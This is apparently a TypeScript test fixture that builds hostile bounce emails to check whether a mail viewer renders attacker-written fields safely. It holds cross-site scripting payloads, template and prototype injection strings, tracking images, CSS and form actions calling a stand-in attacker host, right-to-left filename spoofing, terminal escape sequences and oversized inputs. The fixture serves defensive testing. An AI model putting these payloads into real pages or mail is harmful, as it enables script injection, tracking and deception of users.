/**
 * Mails of somebody who would like the page to run, load, hide or choke on something. Each is a bounce that is read, so that what he wrote
 * comes to where values are shown; each asks for the same: `window.hit`, or a request to ATTACKER.
 */

const ATTACKER = "203.0.113.9";
const SCRIPT = "<script>window.hit=1</script>";
const IMAGE = `<img src="http://${ATTACKER}/x.png" onerror="window.hit=1">`;
const FRAME = '<iframe src="javascript:parent.hit=1" srcdoc="<script>parent.hit=1</script>"></iframe>';
const RIGHT_TO_LEFT = "\u202E";
const LINE_CHARACTERS = 1_000_000;

/** The parts of a bounce that somebody can write as he likes. */
interface Wish {
  readonly from?: string;
  readonly subject?: string;
  readonly human?: string;
  readonly humanType?: string;
  readonly recipient?: string;
  readonly remoteMta?: string;
  readonly diagnostic?: string;
  readonly original?: string;
}

function bounce(wish: Wish): Buffer {
  const { from = "MAILER-DAEMON@mx.example.net", subject = "failed", human = "It failed.", humanType = "text/plain; charset=utf-8" } = wish;
  const { recipient = "ann@example.net", remoteMta = "mx.example.net", diagnostic = "550 5.1.1 User unknown" } = wish;
  return Buffer.from(
    [
      ...[`From: ${from}`, `Subject: ${subject}`, "MIME-Version: 1.0"],
      ...[
        "Content-Type: multipart/report; report-type=delivery-status; boundary=b",
        "",
        "--b",
        `Content-Type: ${humanType}`,
        "",
        human,
        "--b",
      ],
      ...["Content-Type: message/delivery-status", "", "Reporting-MTA: dns; mx.example.net", "", `Final-Recipient: rfc822; ${recipient}`],
      ...["Action: failed", "Status: 5.1.1", `Remote-MTA: dns; ${remoteMta}`, `Diagnostic-Code: smtp; ${diagnostic}`, "", "--b"],
      ...["Content-Type: message/rfc822", "", wish.original ?? "From: news@example.com\r\nSubject: What is new", "", "--b--", ""],
    ].join("\r\n"),
  );
}

/** By what each of them tries. */
export const HOSTILE_MAILS: Readonly<Record<string, Buffer>> = {
  "a script in header fields": bounce({
    from: `"${SCRIPT}" <x@mx.example.net>`,
    subject: `${SCRIPT} =?utf-8?q?=3Cscript=3Ewindow.hit=3D1=3C/script=3E?=`,
  }),
  "an image that reports who reads": bounce({
    human: `${IMAGE}<link rel=stylesheet href=//${ATTACKER}/a.css><video poster=//${ATTACKER}/p>`,
    humanType: "text/html",
  }),
  "a frame and a form": bounce({
    human: `${FRAME}<form action=//${ATTACKER}/f><input name=a autofocus onfocus="window.hit=1"></form>`,
    humanType: "text/html",
  }),
  "markup in what the other server said": bounce({ diagnostic: `550 5.1.1 ${SCRIPT}${IMAGE}<svg onload=window.hit=1>` }),
  "markup in names of hosts": bounce({ remoteMta: `"><img/src=x/onerror=window.hit=1>.example` }),
  "markup in the recipient": bounce({ recipient: `"<svg/onload=window.hit=1>"@example.net` }),
  "a link that is a script": bounce({
    diagnostic: "550 5.1.1 see javascript:window.hit=1 or data:text/html,<script>parent.hit=1</script>",
  }),
  "a style that hides or loads": bounce({
    human: `<style>*{display:none;background:url(http://${ATTACKER}/s)}</style>`,
    humanType: "text/html",
  }),
  "words that are written backwards": bounce({ subject: `${RIGHT_TO_LEFT}gnp.exe`, diagnostic: `550 5.1.1 ${RIGHT_TO_LEFT}nwonknu resU` }),
  "control characters": bounce({
    human: "\u0000\u0001\u0007\u001B[31mred\u001B]8;;http://x\u0007 \u009B31m",
    diagnostic: "550 5.1.1 \u0007\u001B[2J",
  }),
  "an encoded script": bounce({
    human: Buffer.from(`${SCRIPT}${IMAGE}`).toString("base64"),
    humanType: "text/html\r\nContent-Transfer-Encoding: base64",
  }),
  "a prototype": bounce({ recipient: "__proto__@constructor.example", remoteMta: "hasOwnProperty", diagnostic: "550 5.1.1 __proto__" }),
  "a template": bounce({
    subject: "{{window.hit=1}} <%= window.hit=1 %>",
    diagnostic: "550 5.1.1 {{constructor.constructor('window.hit=1')()}}",
  }),
  "a line of a megabyte": bounce({ human: `${IMAGE}${"A".repeat(LINE_CHARACTERS)}`, humanType: "text/html" }),
  "a hundred thousand lines": bounce({ original: `Subject: long\r\n\r\n${"> quoted\r\n".repeat(100_000)}` }),
  "bytes that are no text": Buffer.concat([bounce({}), Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7) % 256))]),
};
